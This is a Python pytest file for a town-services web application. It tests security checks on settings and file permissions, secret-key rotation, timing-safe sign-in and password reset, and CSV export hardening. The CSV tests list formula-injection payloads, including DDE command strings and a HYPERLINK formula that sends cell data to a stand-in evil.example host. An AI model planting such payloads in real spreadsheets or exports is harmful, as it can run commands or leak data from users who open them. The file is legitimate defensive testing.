"""A town that is set up unsafely is told so, one by one; its files are its owner's; its key can be replaced."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import random
import re
import shutil
from collections.abc import Callable
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from click.testing import Result
from desk import make_ticket
from desk import make_topic
from statements import statements

from townhall import private
from townhall import secret_key
from townhall.access.actors import Actor
from townhall.access.actors import system
from townhall.accounts import account_links
from townhall.accounts import passwords
from townhall.accounts import people
from townhall.accounts import rotating
from townhall.accounts import second_factor
from townhall.app import create_app
from townhall.cli import main
from townhall.cli import safety
from townhall.config import FILE_NAME
from townhall.db import meta
from townhall.errors import Forbidden
from townhall.imports.csv_files import open_csv
from townhall.imports.csv_writing import csv_line
from townhall.imports.formulas import as_written
from townhall.imports.formulas import harmless
from townhall.imports.running import ImportSummary
from townhall.imports.running import write_refused
from townhall.town import Town
from townhall.wsgi import TownApplication

ROOT = Path(__file__).parents[2]
PASSWORD = "correct horse battery"
HTTPS: dict[str, Any] = {
    "host": "127.0.0.1",
    "public_address": "https://milbrook.example",
    "trusted_proxies": 1,
    "proxy_addresses": ("127.0.0.1",),
    "hsts_days": 365,
}


@pytest.fixture
def engine() -> str:
    """SQLite alone."""
    return "sqlite"


Run = Callable[..., Result]


@pytest.fixture
def run_it(tmp_path: Path) -> Run:
    """Run a command on the town in a temporary folder."""

    def run(*arguments: str, **environ: str) -> Result:
        command = ["--instance", str(tmp_path / "homes" / "town"), *arguments]
        return CliRunner().invoke(main, command, env=environ, catch_exceptions=False)

    return run


# -- the doctor -----------------------------------------------------------------------------------------------------

UNSAFE: list[tuple[dict[str, Any], str, str]] = [
    ({"host": "0.0.0.0"}, "names", "write hosts into [server]"),
    ({"hosts": ("*",)}, "names", "anybody’s name leads here"),
    ({"hosts": ("milbrook.example", "*.com")}, "names", '"*.com", below which others have names'),
    ({"hosts": ("*.LAN",)}, "names", '"*.lan"'),
    ({"host": "10.0.0.5"}, "https", "put a proxy with a certificate in front"),
    ({"public_address": "http://milbrook.example"}, "https", "put a proxy with a certificate in front"),
    ({**HTTPS, "hsts_days": 0}, "https", "hsts_days = 365"),
    ({**HTTPS, "trusted_proxies": 0}, "proxies", "trusted_proxies = 1"),
    ({**HTTPS, "host": "0.0.0.0", "proxy_addresses": ()}, "proxies", "past the proxy"),
    ({**HTTPS, "proxy_addresses": ("0.0.0.0/0",)}, "proxies", "believes all of 0.0.0.0/0"),
    ({**HTTPS, "proxy_addresses": ("::/0",)}, "proxies", "believes all of ::/0"),
    ({**HTTPS, "trusted_proxies": 6}, "proxies", "is 6; where fewer stand in front none is believed"),
    ({"trusted_proxies": 50}, "proxies", "is 50; where fewer stand in front none is believed"),
    ({"session_idle_minutes": 1441}, "sessions", "session_idle_minutes = 1440"),
    ({"session_hours": 169}, "sessions", "session_hours = 168"),
    ({"sign_in_attempts": 21}, "sessions", "sign_in_attempts = 20"),
    ({"citizen_idle_minutes": 1441}, "sessions", "citizen_idle_minutes = 1440"),
    ({"citizen_session_hours": 169}, "sessions", "citizen_session_hours = 168"),
    ({"invitation_days": 31}, "links", "invitation_days = 30"),
    ({"citizen_link_minutes": 1441}, "links", "citizen_link_minutes = 1440"),
    ({"citizen_code_days": 91}, "links", "citizen_code_days = 90"),
    ({"public_submissions_per_hour": 1001}, "visitors", "public_submissions_per_hour = 1000"),
    ({"max_upload_mb": 201}, "visitors", "max_upload_mb"),
    ({"mail_host": "mail.example", "mail_security": "none"}, "mail encryption", 'security = "starttls"'),
    ({"database": "postgresql://town@db.example/town"}, "database encryption", "sslmode=require"),
    ({"database": "postgresql://town@db.example/town?sslmode=prefer"}, "database encryption", "sslmode=require"),
]
SAFE: list[dict[str, Any]] = [
    {},
    HTTPS,
    {**HTTPS, "host": "0.0.0.0", "proxy_addresses": ("10.0.0.0/8",)},
    {**HTTPS, "trusted_proxies": 5, "hosts": ("milbrook.example", "*.milbrook.example")},
    {**HTTPS, "mail_host": "mail.example", "mail_security": "tls"},
    {"mail_host": "localhost", "mail_security": "none"},
    {"database": "postgresql://town@db.example/town?sslmode=verify-full"},
    {"database": "postgresql://town@localhost/town"},
]


def test_every_unsafe_setting_is_found_with_what_to_do(town: Town) -> None:
    """One at a time, each is a problem that says what to write instead; safe ones are none."""
    settings = town.settings

    def problems(values: dict[str, Any], environ: dict[str, str] | None = None) -> dict[str, str]:
        town.settings = replace(settings, **values)
        return {each.subject: each.message for each in safety.examine(town, environ=environ or {}) if not each.good}

    for values in SAFE:
        assert problems(values) == {}, values
    for values, subject, words in UNSAFE:
        assert words in problems(values).get(subject, ""), (values, subject)
    assert "FLASK_DEBUG" in problems({}, {"FLASK_DEBUG": "1"})["debugging"]
    assert problems({}, {"FLASK_DEBUG": "0"}) == {}
    town.settings = settings
    assert [each.subject for each in safety.examine(town, host="0.0.0.0", environ={}) if not each.good] == [
        "names",
        "https",
    ]
    meta.put(town.system, "sign_in_hint", "the password is …")
    assert problems({}) == {}
    assert "everybody knows" in problems(HTTPS)["demo"]
    town.secret = b"changeme" * 8
    assert "secrets rotate" in problems({})["key strength"]


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps rights of files otherwise")
def test_files_that_others_can_read_are_found(town: Town, tmp_path: Path) -> None:
    """The folder guards what is in it; where it doesn't, each file is named: settings, keys, database, copies."""

    def found() -> str:
        (finding,) = [each for each in safety.examine(town, environ={}) if each.subject == "files"]
        return "" if finding.good else finding.message

    folder = town.instance
    folder.chmod(0o755)
    for path in (*folder.glob("*.db*"), folder / FILE_NAME, folder / "secret_key"):
        path.chmod(0o600)
    town.settings = replace(town.settings, mail_password_file="smtp.txt")
    assert found() == ""
    for name in (FILE_NAME, "secret_key", "townhall.db", "smtp.txt", "field_key.bin"):
        path = folder / name
        path.touch()
        path.chmod(0o644)
        assert f"read {name}; run: chmod -R o-rwx" in found()
        path.chmod(0o640)
        assert found() == ""
    folder.chmod(0o757)
    assert "can put a key and settings of theirs in place; run: chmod -R o-rwx" in found()
    # A password outside is found although the instance's own folder keeps everybody out; its folder may guard it too.
    beside = tmp_path / "beside"
    beside.mkdir(mode=0o755)
    (beside / "smtp.txt").touch(mode=0o644)
    town.settings = replace(town.settings, mail_password_file=str(beside / "smtp.txt"))
    folder.chmod(0o700)
    beside.chmod(0o755)
    assert f"chmod o-rwx {beside / 'smtp.txt'}" in found()
    beside.chmod(0o700)
    assert found() == ""
    folder.chmod(0o755)
    for name in ("files", "packs", "snapshots"):
        path = folder / name
        path.mkdir(exist_ok=True)
        path.chmod(0o755)
        assert f"read {name};" in found()
        folder.chmod(0o750)
        assert found() == ""
        folder.chmod(0o755)
        path.chmod(0o700)


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps rights of files otherwise")
def test_keys_and_backups_elsewhere_that_others_can_read_are_found(run_it: Run, tmp_path: Path) -> None:
    """Wherever the settings put them: the instance's own folder guards nothing of it, that in which they are may."""
    run_it("init", "--admin", "ada@town.example", "--plugins", "none", TOWNHALL_ADMIN_PASSWORD=PASSWORD)
    disk, keys = tmp_path / "disk", tmp_path / "keys"
    backups, key = disk / "backups", keys / "key"
    for folder in (disk, backups, keys):
        folder.mkdir()
        folder.chmod(0o755)
    key.write_text("x", encoding="ascii")
    key.chmod(0o600)
    tmp_path.chmod(0o755)
    environ = {"TOWNHALL_BACKUP_FOLDER": str(backups), "TOWNHALL_ENCRYPTION_KEY_FILE": str(key)}
    made = run_it("backup", **environ)
    assert made.exit_code == 0, made.output
    (file,) = backups.glob("*.zip")

    def found(**more: str) -> str:
        told = json.loads(run_it("doctor", "--json", **{**environ, **more}).output)
        (finding,) = [each for each in told if each["subject"] == "files"]
        return "" if finding["good"] else finding["message"]

    assert found() == ""
    file.chmod(0o644)
    assert f"read backups in {backups}; run: chmod o-rwx {backups}" in found()
    disk.chmod(0o750)
    assert found() == ""
    disk.chmod(0o755)
    backups.chmod(0o750)
    assert found() == ""
    file.chmod(0o600)
    backups.chmod(0o777)
    assert f"put some of theirs in place in {backups}; run: chmod o-rwx {backups}" in found()
    backups.chmod(0o700)
    assert found() == ""
    key.chmod(0o644)
    assert f"chmod o-rwx {key}" in found()
    keys.chmod(0o700)
    assert found() == ""
    # One inside is looked at whatever it is called, and one that is not connected is none.
    home = tmp_path / "homes" / "town"
    (home / "copies").mkdir()
    for folder in (home, home / "copies"):
        folder.chmod(0o755)
    assert f"read copies; run: chmod -R o-rwx {home}" in found(TOWNHALL_BACKUP_FOLDER="copies")
    home.chmod(0o700)
    assert found(TOWNHALL_BACKUP_FOLDER=str(tmp_path / "nowhere" / "backups")) == ""


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps rights of files otherwise")
def test_a_new_town_is_its_owners_alone(run_it: Run, tmp_path: Path) -> None:
    """init makes folder, settings, key and database for the owner alone, whatever the umask; the doctor is content."""
    before = os.umask(0)
    try:
        made = run_it("init", "--admin", "ada@town.example", "--plugins", "none", TOWNHALL_ADMIN_PASSWORD=PASSWORD)
        assert made.exit_code == 0, made.output
        folder = tmp_path / "homes" / "town"
        seen = {path.name: path.stat().st_mode & 0o777 for path in (folder, *folder.iterdir())}
        assert seen.pop("town") == 0o700
        assert {FILE_NAME, "secret_key", "townhall.db"} <= seen.keys()
        assert set(seen.values()) <= {0o600, 0o700}, seen
        folder.chmod(0o755)
        (folder / FILE_NAME).chmod(0o644)
        (folder / "secret_key").chmod(0o644)
        with (folder / FILE_NAME).open("a", encoding="utf-8") as file:
            file.write("[plugins.x]\n")
        told = run_it("doctor", "--json")
        assert told.exit_code == 1
        bad = {each["subject"]: each["message"] for each in json.loads(told.output) if not each["good"]}
        assert bad.keys() == {"files", "secret key"}
        secret = (folder / "secret_key").read_text(encoding="ascii").strip()
        assert secret not in told.output
        assert secret not in run_it("doctor").output
        private.make_folder(tmp_path / "a" / "b")
        assert (tmp_path / "a" / "b").stat().st_mode & 0o777 == 0o700
    finally:
        os.umask(before)


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps rights of files otherwise")
def test_what_the_town_writes_of_people_is_its_owners_alone(tmp_path: Path) -> None:
    """Refused rows of an import, whatever the umask, and also over a file that others could read."""
    source = tmp_path / "people.csv"
    source.write_text("name\nMoreau\n", encoding="utf-8")
    target = tmp_path / "people.refused.csv"
    before = os.umask(0)
    try:
        for _ in range(2):
            write_refused(ImportSummary(), open_csv(source), target)
            assert target.stat().st_mode & 0o777 == 0o600
            target.chmod(0o666)
        private.write(target, "secret")
        assert target.stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(before)


def test_a_disk_that_is_full_or_read_only_is_named(
    run_it: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the doctor and by every other command, though the database can't even be opened then."""
    run_it("init", "--admin", "ada@town.example", "--plugins", "none", TOWNHALL_ADMIN_PASSWORD=PASSWORD)
    folder = tmp_path / "homes" / "town"

    def told() -> tuple[str, str]:
        found = json.loads(run_it("doctor", "--json").output)
        return next(each["message"] for each in found if each["subject"] == "disk" and not each["good"]), found[-1][
            "message"
        ]

    (folder / "townhall.db").write_bytes(b"garbage")
    usage = shutil.disk_usage(folder)
    with monkeypatch.context() as full:
        full.setattr(shutil, "disk_usage", lambda path: usage._replace(free=4096))
        assert all(f"the disk of {folder} is full; make room" in words for words in told())
        assert "is full; make room" in run_it("users", "list").output
    with monkeypatch.context() as locked:
        locked.setattr(os, "access", lambda path, mode, **more: mode != os.W_OK)
        assert all(f"nothing can be written in {folder}" in words for words in told())
    assert "can't be opened: file is not a database" in run_it("users", "list").output
    assert "there is no folder" in private.unwritable(tmp_path / "nowhere")


def test_two_new_towns_have_nothing_in_common(tmp_path: Path) -> None:
    """A key is made by chance when the town is made; one that is too short is refused."""
    keys = set()
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        keys.add(secret_key.read(tmp_path / name))
        assert secret_key.read(tmp_path / name) in keys
    assert len(keys) == 2
    assert all(len(key) >= 64 and not secret_key.is_weak(key) for key in keys)
    (tmp_path / "one" / "secret_key").write_text("short\n", encoding="ascii")
    with pytest.raises(Exception, match="too short"):
        secret_key.read(tmp_path / "one")


# -- replacing the key ----------------------------------------------------------------------------------------------


def test_replacing_the_key_ends_what_it_opened(town: Town) -> None:
    """Sessions, links for passwords and code apps are gone, in every process; passwords and people stay."""
    person = people.add(town, system(), "ruth@town.example", name="Ruth", role="administrator", password=PASSWORD)
    application = TownApplication(town)
    client = application._app.test_client()
    client.application.config["WTF_CSRF_ENABLED"] = False
    sent = {"email": "ruth@town.example", "password": PASSWORD}
    client.post("/admin/sign-in", data=sent)
    assert client.get("/admin/").status_code == 200
    token = account_links.make(town, person.id, "reset")
    nonce = second_factor.new_nonce()
    code = second_factor._totp(town, person.id, nonce).generate(time=int(town.clock.now().timestamp())).token
    second_factor.set_up(town, system(), person.id, nonce, code)
    before = (town.instance / "secret_key").read_bytes()
    with pytest.raises(Forbidden):
        rotating.rotate(town, replace(system(), kind="staff", permissions=frozenset()))
    assert (town.instance / "secret_key").read_bytes() == before
    done = rotating.rotate(town, system("cli"))
    assert (done.sessions, done.links, done.code_apps) == (1, 1, 1)
    assert (town.instance / "secret_key").read_bytes() != before
    if os.name == "posix":
        assert (town.instance / "secret_key").stat().st_mode & 0o777 == 0o600
    assert client.get("/admin/").status_code == 302
    assert application.current_town().secret != before.strip()
    assert account_links.find(town, token) is None
    assert second_factor.of(town, person.id) is None
    assert town.system.recovery_code.select().count() == 0
    fresh = create_app(application.town).test_client()
    fresh.application.config["WTF_CSRF_ENABLED"] = False
    assert fresh.post("/admin/sign-in", data=sent).status_code == 302
    assert fresh.get("/admin/").status_code == 200


def test_the_command_replaces_the_key_once_it_was_asked(run_it: Run, tmp_path: Path) -> None:
    """Without a yes nothing happens."""
    run_it("init", "--admin", "ada@town.example", "--plugins", "none", TOWNHALL_ADMIN_PASSWORD=PASSWORD)
    file = tmp_path / "homes" / "town" / "secret_key"
    before = file.read_bytes()
    assert run_it("secrets", "rotate").exit_code == 1
    assert file.read_bytes() == before
    done = run_it("secrets", "rotate", "--yes")
    assert done.exit_code == 0
    assert "is a new one" in done.output
    assert file.read_bytes() != before
    assert file.read_text(encoding="ascii").strip() not in done.output


# -- the same work for strangers --------------------------------------------------------------------------------------


def test_asking_for_a_new_password_costs_a_stranger_as_much(town: Town, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same statements in as many transactions, whether there is such an account, one that was let go, or none."""
    from townhall.accounts import delivering

    people.add(town, system(), "ruth@town.example", name="Ruth", role="administrator", password=PASSWORD)
    gone = people.add(town, system(), "gone@town.example", name="Gone", role="clerk", password=PASSWORD)
    people.set_active(town, system(), gone.id, False)
    town.settings = replace(town.settings, mail_host="mail.example", public_address="https://milbrook.example")
    sent: list[str] = []
    monkeypatch.setattr(
        delivering, "deliver_later", lambda town, address, subject, body: sent.append(address) if address else None
    )
    client = create_app(town).test_client()
    client.application.config["WTF_CSRF_ENABLED"] = False
    client.post("/admin/forgotten", data={"email": "first@town.example"})
    shapes = []
    for address in ("ruth@town.example", "gone@town.example", "nobody@town.example"):
        with statements(town) as seen:
            answer = client.post("/admin/forgotten", data={"email": address})
        shapes.append((answer.status_code, answer.text.replace(address, ""), [each.split()[0] for each in seen]))
    bare = [(code, len(text), statements) for code, text, statements in shapes]
    assert bare[0] == bare[1] == bare[2]
    assert "INSERT" in bare[0][2]
    assert sent == ["ruth@town.example"]


# -- formulas -------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", "'=1", "''=1",
    "＝1+1", "＋1", "－1", "＠x", "a;=cmd()", "a\t=cmd()", "a\n=cmd()", "a;@x", "a\n-1+cmd|' /C calc'!A0", "a;'=x",
    "a; =x", '=HYPERLINK("https://evil.example?"&A1)', 'a;"=HYPERLINK(1+1);b', 'a\t"@SUM(1)\tb', 'a;""=x', 'a\n"=x',
    "a;＝x", "a;＋1+cmd|' /C calc'!A0", "a;-2\t+cmd|' /C calc'!A0", "a\nb,=x", 'a\nb,"=x', "a;'\"=x",
]  # fmt: skip
PLAIN = [
    "-5",
    "+1.5",
    "+1 513 555 0142",
    "a; b",
    "a\n- first\n- second",
    "it's",
    "O'Brien; Son",
    "1;-2",
    'he said "no"; "yes"',
    "Smith, Ada",
    "a, b (c)\nd, e",
    "x=1",
    "a@b.c",
]


#: What a spreadsheet runs: a formula, or a sign before something that does more than count.
RUNS = re.compile(r" *(?:[=@＝＠]|[+\-＋－][^\r\n]*[|(!])")


def formulas(written: str) -> Iterator[tuple[str, str]]:
    """Cells that would run, by the separator that parts them, also where each line is read by itself."""
    for separator in ",;\t":
        for text in (written, *re.split(r"[\r\n]", written)):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
                yield from ((separator, cell) for cell in row if RUNS.match(cell))


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_no_cell_is_a_formula_and_every_cell_comes_back(text: str, tmp_path: Path) -> None:
    """Whatever separator the spreadsheet believes in; what was exported is imported as it was."""
    line = csv_line(["a", text, "b"])
    assert list(formulas(line)) == []
    assert as_written(harmless(text)) == text
    file = tmp_path / "a.csv"
    file.write_text("x,y,z\n" + line, encoding="utf-8", newline="")
    (row,) = open_csv(file).rows()
    assert row.cells["y"] == text.replace("\r", "\n")


def test_no_text_of_any_kind_is_a_formula_and_every_one_comes_back() -> None:
    """Signs, separators, quotation marks and ends of lines in any order."""
    chance = random.Random(4)
    for _ in range(4_000):
        text = "".join(chance.choices("a1=+-@;,\t\n\r\"' |(＝－", k=chance.randrange(1, 14)))
        assert list(formulas(csv_line(["a", text, "b"]))) == [], text
        assert as_written(harmless(text)) == text


def test_an_export_that_is_opened_with_semicolons_runs_nothing(town: Town, clerk: Actor) -> None:
    """What a resident typed behind a semicolon and a quotation mark is text in the list that a clerk downloads."""
    make_ticket(town, clerk, make_topic(town), summary='a;"=HYPERLINK(1+1);b')
    people.add(town, system(), "ruth@town.example", name="Ruth", role="administrator", password=PASSWORD)
    client = create_app(town).test_client()
    client.application.config["WTF_CSRF_ENABLED"] = False
    client.post("/admin/sign-in", data={"email": "ruth@town.example", "password": PASSWORD})
    written = client.get("/admin/desk/ticket/export.csv?view=all").text
    assert "HYPERLINK" in written
    assert list(formulas(written)) == []


def test_plain_text_is_left_as_it_is() -> None:
    """Numbers, names and lists of points look in a spreadsheet as they do here."""
    assert [harmless(text) for text in PLAIN if not text.startswith("+1 ")] == [
        text for text in PLAIN if not text.startswith("+1 ")
    ]


# -- what the source may not do -------------------------------------------------------------------------------------


def sources() -> Iterator[tuple[Path, ast.Module]]:
    """Every module of Townhall and its own plugins."""
    for folder in ("core", "forms", "plugins"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            yield path.relative_to(ROOT), ast.parse(path.read_text(encoding="utf-8"))


#: Modules that reach out, and who may use them for what nobody outside chooses: the mail server of the settings.
REACHING = {"http.client", "urllib.request", "requests", "httpx", "aiohttp", "urllib3", "ftplib", "smtplib", "socket"}
MAY_REACH = {
    ("core/townhall/mail/server.py", "smtplib"),
    ("core/townhall/cli/serving.py", "socket"),
    ("core/townhall/jobs/claims.py", "socket"),
    ("core/townhall/testing/network.py", "socket"),
}
#: Calls that make code or objects out of text.
DANGEROUS = {"eval", "exec", "compile", "__import__"}
UNPICKLING = {"pickle", "marshal", "shelve", "dill", "yaml", "lxml", "xml.etree", "xml.dom", "xml.parsers"}
#: A migration in Python is part of a plugin that somebody installed as a package.
MAY_RUN = {("core/townhall/lifecycle/migrations/running.py", call) for call in ("compile", "exec")}


def _family(name: str) -> set[str]:
    first, _, rest = name.partition(".")
    return {first, f"{first}.{rest.partition('.')[0]}"}


def test_the_source_reaches_nobody_runs_no_text_and_writes_csv_in_one_place() -> None:
    """No address that somebody typed is ever fetched, no text becomes code, and one function writes every table."""
    reached, ran, tables = set(), set(), set()
    for path, tree in sources():
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module, *(f"{node.module}.{alias.name}" for alias in node.names)]
            reached |= {(path.as_posix(), name) for name in names if name in REACHING}
            ran |= {(path.as_posix(), name) for name in names if _family(name) & UNPICKLING}
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in DANGEROUS:
                ran.add((path.as_posix(), node.func.id))
            writes = isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
            if writes and isinstance(node.value, ast.Name) and node.value.id == "csv":  # type: ignore[attr-defined]
                tables.add(path.as_posix())
    assert reached <= MAY_REACH
    assert ran == MAY_RUN
    assert tables == {"core/townhall/imports/csv_writing.py"}


def test_the_decoy_is_as_slow_as_a_password(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whether there is nobody, somebody without a password or a wrong one, one digest is worked out."""
    passwords._decoy()
    kept = passwords.digest(PASSWORD)
    worked: list[str] = []
    verify = type(passwords._HASHER).verify

    def counted(self: Any, digest: str, text: str) -> bool:
        worked.append(digest.rpartition("$")[0].rpartition("$")[0])
        return bool(verify(self, digest, text))

    monkeypatch.setattr(type(passwords._HASHER), "verify", counted)
    assert [passwords.matches("wrong", each) for each in (None, "", kept)] == [False, False, False]
    assert len(worked) == 3
    assert len(set(worked)) == 1
